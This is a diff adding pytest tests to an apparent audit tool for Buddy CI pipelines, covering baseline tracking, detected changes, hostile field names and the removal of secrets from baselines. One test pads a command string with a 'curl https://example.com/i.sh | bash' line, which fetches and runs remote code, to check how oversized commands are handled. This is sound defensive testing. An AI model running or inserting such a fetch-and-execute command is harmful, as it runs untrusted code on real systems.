@@ -82,6 +82,12 @@ def test_a_huge_field_cannot_flood_the_report() -> None:
     assert len(result.findings) == engine.OUTCOMES_AT_ONCE
 
 
+@pytest.mark.parametrize("rule", ["BDY009", "BDY010", "BDY011", "BDY012"])
+def test_commands_too_long_to_be_looked_at_whole_are_no_pass(rule: str) -> None:
+    result = run(action(inline_commands="true\n" * 60_000 + "curl https://example.com/i.sh | bash"))
+    assert result.outcomes[rule] == {Status.NOT_AVAILABLE: 1}
+
+
 def test_findings_beyond_the_number_kept_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(engine, "MOST_FINDINGS", 10)
     result = run(action(), rules=[made_up(loud)])
@@ -107,10 +113,10 @@ def test_new_unchanged_and_fixed_against_the_baseline() -> None:
     first = run(action(timeout=0, docker_image_name="node", docker_image_tag="latest"))
     kept = Baseline.from_json(first.baseline.to_json())
     second = run(action(timeout=0, docker_image_name="node", docker_image_tag="22"), baseline=kept)
-    assert [(item.rule, item.state) for item in second.findings] == [("BDY013", UNCHANGED)]
+    assert [(item.rule, item.state) for item in second.findings] == [("BDY013", UNCHANGED), ("BDY027", NEW)]
     assert [item.rule for item in second.fixed] == ["BDY001"]
     third = run(action(timeout=0, docker_image_name="node", docker_image_tag="edge"), baseline=second.baseline)
-    assert {(item.rule, item.state) for item in third.findings} == {("BDY001", NEW), ("BDY013", UNCHANGED)}
+    assert {(item.rule, item.state) for item in third.findings} == {("BDY001", NEW), ("BDY013", UNCHANGED), ("BDY027", NEW)}
 
 
 def test_what_could_not_be_read_is_not_fixed() -> None:
@@ -118,6 +124,68 @@ def test_what_could_not_be_read_is_not_fixed() -> None:
     for second in (run({**action(), "detailed": False}, baseline=first.baseline), run(baseline=first.baseline)):
         assert not second.fixed
         assert second.baseline.findings == first.baseline.findings
+
+
+def pipeline(*ids: int, **fields: Any) -> dict[str, Any]:
+    actions = [{"id": id, "name": f"step {id}", "type": "RUN_DOCKER_CONTAINER", "timeout": 0, **fields} for id in ids]
+    place = {"workspace": "acme", "project": "web", "seen_at": NOW.isoformat()}
+    return {"kind": "buddy.pipeline", **place, "data": {"id": 89, "name": "Deploy"}, "actions": actions}
+
+
+def test_findings_about_an_action_that_is_deleted_are_fixed() -> None:
+    first = run(pipeline(1, 2))
+    second = run(pipeline(1), baseline=first.baseline)
+    assert [item.subject.id for item in second.fixed] == ["buddy:acme/web/89/action/2"]
+    assert set(second.baseline.definitions) == {"buddy:acme/web/89", "buddy:acme/web/89/action/1"}
+    hidden_now = {**pipeline(1), "listed": pipeline(1, 2)["actions"]}
+    third = run(hidden_now, baseline=first.baseline)
+    assert not third.fixed, "it is listed, and could not be read"
+    assert third.baseline.definitions == first.baseline.definitions
+
+
+def changes(result: AuditResult) -> dict[str, str]:
+    return {item.subject.id.rpartition(":")[2]: item.evidence.text for item in result.findings if item.rule == "BDY027"}
+
+
+def test_what_has_changed_since_the_last_audit_is_told_once() -> None:
+    first = run(pipeline(1, 2))
+    assert first.outcomes["BDY027"] == {Status.NOT_AVAILABLE: 3}
+    kept = Baseline.from_json(first.baseline.to_json())
+    assert not changes(run(pipeline(1, 2), baseline=kept))
+    second = run(pipeline(1, 2, 3, timeout=60), baseline=kept)
+    assert changes(second) == {"acme/web/89": "actions", "acme/web/89/action/1": "timeout", "acme/web/89/action/2": "timeout"}
+    third = run(pipeline(1, 2, 3, timeout=60), baseline=second.baseline)
+    assert not changes(third)
+    assert not [item for item in third.fixed if item.rule == "BDY027"], "that it changed is nothing to be fixed"
+
+
+def test_names_of_unknown_fields_may_be_anything() -> None:
+    hostile = {f"a b=c\n{number}" * 100: number for number in range(1, 2_000)}
+    first = run(action(**hostile))
+    assert not changes(run(action(**hostile), baseline=first.baseline))
+    assert len(first.baseline.to_json()) < 100_000
+    second = run(action(**dict.fromkeys(hostile, 0), timeout=7), baseline=first.baseline)
+    assert changes(second)["acme/web/89/action/123"].startswith("a_b_c_1")
+
+
+def test_a_short_form_is_no_change() -> None:
+    first = run({**pipeline(1), "data": {"id": 89, "name": "Deploy", "priority": "HIGH"}})
+    second = run({**pipeline(1), "short": True}, baseline=first.baseline)
+    assert not changes(second)
+    assert second.baseline.definitions == first.baseline.definitions
+
+
+def test_a_new_pipeline_is_told_without_its_actions() -> None:
+    first = run(pipeline(1))
+    other = {**pipeline(4, 5), "data": {"id": 90, "name": "New"}}
+    assert changes(run(pipeline(1), other, baseline=first.baseline)) == {"acme/web/90": "buddy:acme/web/90"}
+
+
+def test_a_baseline_keeps_no_values() -> None:
+    result = run(action(login="robot", password="hunter2hunter2", execute_commands=["make secret-target"]))
+    assert result.baseline.definitions
+    assert "hunter2" not in result.baseline.to_json()
+    assert "secret-target" not in result.baseline.to_json()
 
 
 def waiver(**changes: Any) -> Waiver:
@@ -165,6 +233,10 @@ def test_an_error_in_settings_names_line_and_key(text: str, toml: bool, told: st
     with pytest.raises(ConfigurationError) as raised:
         parse(text, AuditSettings, "s", toml=toml)
     assert str(raised.value).startswith(told)
+
+
+def test_ids_of_people_may_be_numbers() -> None:
+    assert parse("[people]\nterminators = [17]\n", AuditSettings, "s", toml=True).people.terminators == {"17"}
 
 
 @pytest.mark.parametrize("toml", [True, False])
